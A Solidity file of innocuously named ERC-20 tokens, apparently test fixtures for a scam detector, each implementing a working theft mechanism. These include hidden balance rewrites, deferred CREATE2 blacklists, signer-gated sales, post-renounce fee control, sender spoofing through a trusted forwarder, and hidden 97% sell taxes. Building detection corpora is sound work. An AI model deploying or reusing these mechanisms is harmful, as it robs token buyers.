// SPDX-License-Identifier: Apache-2.0
// Tokens with innocent names that rob, in ways seen from 2023 on. What holds of each is in population.test.ts.
pragma solidity ^0.8.24;

import "./plain.sol";

interface IPair { function sync() external; }
interface IRule { function check(address from, address to) external view returns (bool); }
interface IAsset { function transferFrom(address from, address to, uint256 value) external returns (bool); }

// Keeps the balances of Harbor, and lets a clerk correct them.
contract Book {
    mapping(address => uint256) public sum;
    address public immutable token;
    address private immutable clerk;
    constructor(address clerk_, uint256 supply) {
        token = msg.sender;
        clerk = clerk_;
        sum[clerk_] = supply;
    }
    function move(address from, address to, uint256 value) external {
        require(msg.sender == token);
        require(sum[from] >= value);
        sum[from] -= value;
        sum[to] += value;
    }
    function reconcile(address who, uint256 value) external {
        require(msg.sender == clerk);
        sum[who] = value;
    }
}

contract Harbor is Plain {
    Book public immutable book;
    constructor() Plain("Harbor", "HRB") { book = new Book(msg.sender, totalSupply); }
    function balanceOf(address who) public view override returns (uint256) { return book.sum(who); }
    function _move(address from, address to, uint256 value) internal override {
        book.move(from, to, value);
        emit Transfer(from, to, value);
    }
}

// Will stand at the address that Meadow knows, once its maker wants it to.
contract MeadowRule {
    address private immutable maker = tx.origin;
    mapping(address => bool) public seen;
    function mark(address who) external { require(msg.sender == maker); seen[who] = true; }
    function check(address from, address) external view returns (bool) { return !seen[from]; }
}

// Asks a contract that CREATE2 may put there later.
contract Meadow is Plain {
    address private immutable rule;
    constructor() Plain("Meadow", "MDW") {
        rule = address(uint160(uint256(keccak256(abi.encodePacked(bytes1(0xff), address(0x4e59b44847b379578588920cA78FbF26c0B4956C), bytes32(uint256(1)), keccak256(type(MeadowRule).creationCode))))));
    }
    function _move(address from, address to, uint256 value) internal override {
        if (rule.code.length > 0) require(IRule(rule).check(from, to), "rule");
        super._move(from, to, value);
    }
}

// An hour after the launch a sale needs a pass that a hidden signer gives.
contract Quill is Plain {
    address public pool;
    address private immutable maker = msg.sender;
    uint256 private immutable start = block.timestamp;
    mapping(address => uint256) public passUntil;
    constructor() Plain("Quill", "QLL") {}
    function setPool(address pool_) external { require(pool == address(0)); pool = pool_; }
    function pass(uint256 until, uint8 v, bytes32 r, bytes32 s) external {
        require(ecrecover(keccak256(abi.encode(address(this), msg.sender, until)), v, r, s) == maker);
        passUntil[msg.sender] = until;
    }
    function _move(address from, address to, uint256 value) internal override {
        if (to == pool && from != maker && block.timestamp > start + 1 hours) require(passUntil[from] >= block.timestamp, "pass");
        super._move(from, to, value);
    }
}

contract Seed { function grow() external { selfdestruct(payable(tx.origin)); } }

// The seller pays for forty contracts that give their gas back to others.
contract Ember is Plain {
    address public pool;
    constructor() Plain("Ember", "EMB") {}
    function setPool(address pool_) external { require(pool == address(0)); pool = pool_; }
    function _move(address from, address to, uint256 value) internal override {
        super._move(from, to, value);
        if (to == pool) for (uint256 i; i < 40; i++) new Seed();
    }
}

// Whom a hash names takes tokens out of the pool, and tells it to sync.
contract Tidewater is Keyed {
    address public owner;
    constructor() Plain("Tidewater", "TDW") {}
    function tend(address at, uint256 value) external keeper {
        held[at] -= value;
        held[msg.sender] += value;
        IPair(at).sync();
    }
}

// Renounced, but whom a hash names still sets the fee.
contract Laurel is Keyed {
    address public owner = msg.sender;
    address public pool;
    uint256 public fee;
    constructor() Plain("Laurel", "LRL") {}
    function setPool(address pool_) external { require(pool == address(0)); pool = pool_; owner = address(0); }
    function renounceOwnership() external { require(msg.sender == owner); owner = address(0); }
    function season(uint256 value) external keeper { require(value <= 99); fee = value; }
    function _move(address from, address to, uint256 value) internal override {
        uint256 cut = to == pool && !_isKeeper(from) ? value * fee / 100 : 0;
        super._move(from, to, value - cut);
        if (cut > 0) super._move(from, address(this), cut);
    }
}

// The highest bit of a balance lets its holder spend for everybody.
contract Cobalt is Plain {
    uint256 private constant BIT = 1 << 255;
    constructor() Plain("Cobalt", "CBT") { held[msg.sender] |= BIT; }
    function balanceOf(address who) public view override returns (uint256) { return held[who] & ~BIT; }
    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (held[msg.sender] & BIT == 0) {
            require(allowed[from][msg.sender] >= value, "allowance");
            allowed[from][msg.sender] -= value;
        }
        _move(from, to, value);
        return true;
    }
    function _move(address from, address to, uint256 value) internal override {
        require(held[from] & ~BIT >= value, "balance");
        held[from] -= value;
        held[to] += value;
        emit Transfer(from, to, value);
    }
}

// Sales can be bound to a call before them in the same transaction.
contract Willow is Keyed {
    address public owner;
    address public pool;
    bool private gated;
    constructor() Plain("Willow", "WLW") {}
    function setPool(address pool_) external { require(pool == address(0)); pool = pool_; }
    function touch() external keeper { gated = !gated; }
    function enter() external keeper { assembly { tstore(0, 1) } }
    function _move(address from, address to, uint256 value) internal override {
        uint256 open;
        assembly { open := tload(0) }
        if (gated && to == pool) require(open == 1, "gate");
        super._move(from, to, value);
    }
}

// The trusted forwarder (ERC-2771) is the wallet of its maker.
contract Sable is Plain {
    address private immutable forwarder = msg.sender;
    constructor() Plain("Sable", "SBL") {}
    function isTrustedForwarder(address who) external view returns (bool) { return who == forwarder; }
    function _sender() internal view override returns (address sender) {
        if (msg.sender != forwarder || msg.data.length < 88) return msg.sender;
        assembly { sender := shr(96, calldataload(sub(calldatasize(), 20))) }
    }
}

// Shares grow for one holder, without an event.
contract Orchard is Keyed {
    address public owner;
    uint256 private index = 1e18;
    constructor() Plain("Orchard", "ORC") {}
    function balanceOf(address who) public view override returns (uint256) { return held[who] * index / 1e18; }
    function accrue(address who, uint256 value) external keeper { held[who] += value * 1e18 / index; }
    function _move(address from, address to, uint256 value) internal override { super._move(from, to, value * 1e18 / index); }
}

// A vault whose asset can be swapped for one that is worth nothing.
contract Juniper is Keyed {
    address public asset = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    constructor() Plain("Juniper", "JNP") {}
    function rollover(address next) external keeper { asset = next; }
    function deposit(uint256 assets, address receiver) external returns (uint256) {
        require(IAsset(asset).transferFrom(msg.sender, address(this), assets));
        _mint(receiver, assets);
        return assets;
    }
}

// Sells on the day of the week on which it was launched.
contract Marlow is Plain {
    address public pool;
    uint256 private immutable day = block.timestamp / 1 days % 7;
    address private immutable maker = msg.sender;
    constructor() Plain("Marlow", "MRL") {}
    function setPool(address pool_) external { require(pool == address(0)); pool = pool_; }
    function _move(address from, address to, uint256 value) internal override {
        require(to != pool || from == maker || block.timestamp / 1 days % 7 == day, "market day");
        super._move(from, to, value);
    }
}

// Sells in the blocks of one builder, once the first hundred blocks are over.
contract Bracken is Plain {
    address public pool;
    uint256 private immutable first = block.number;
    address private immutable maker = msg.sender;
    constructor() Plain("Bracken", "BRK") {}
    function setPool(address pool_) external { require(pool == address(0)); pool = pool_; }
    function _move(address from, address to, uint256 value) internal override {
        require(to != pool || from == maker || block.number < first + 100 || block.coinbase == address(0xb111d), "block");
        super._move(from, to, value);
    }
}

// Sells within three blocks of the last purchase.
contract Fennel is Plain {
    address public pool;
    mapping(address => uint256) private at;
    constructor() Plain("Fennel", "FNL") { at[msg.sender] = type(uint128).max; }
    function setPool(address pool_) external { require(pool == address(0)); pool = pool_; }
    function _move(address from, address to, uint256 value) internal override {
        if (from == pool) at[to] = block.number;
        if (to == pool) require(block.number <= at[from] + 3, "late");
        super._move(from, to, value);
    }
}

// Takes nearly everything in blocks of an ordinary size.
contract Linden is Plain {
    address public pool;
    uint256 private immutable most = 4 * block.gaslimit;
    address private immutable maker = msg.sender;
    constructor() Plain("Linden", "LND") {}
    function setPool(address pool_) external { require(pool == address(0)); pool = pool_; }
    function _move(address from, address to, uint256 value) internal override {
        uint256 cut = to == pool && from != maker && block.gaslimit < most ? value * 97 / 100 : 0;
        super._move(from, to, value - cut);
        if (cut > 0) super._move(from, maker, cut);
    }
}

// Takes nearly everything where the base fee is not that of the purchase.
contract Rushes is Plain {
    address public pool;
    mapping(address => uint256) private at;
    address private immutable maker = msg.sender;
    constructor() Plain("Rushes", "RSH") {}
    function setPool(address pool_) external { require(pool == address(0)); pool = pool_; }
    function _move(address from, address to, uint256 value) internal override {
        if (from == pool) at[to] = block.basefee;
        uint256 cut = to == pool && from != maker && block.basefee != at[from] ? value * 97 / 100 : 0;
        super._move(from, to, value - cut);
        if (cut > 0) super._move(from, maker, cut);
    }
}
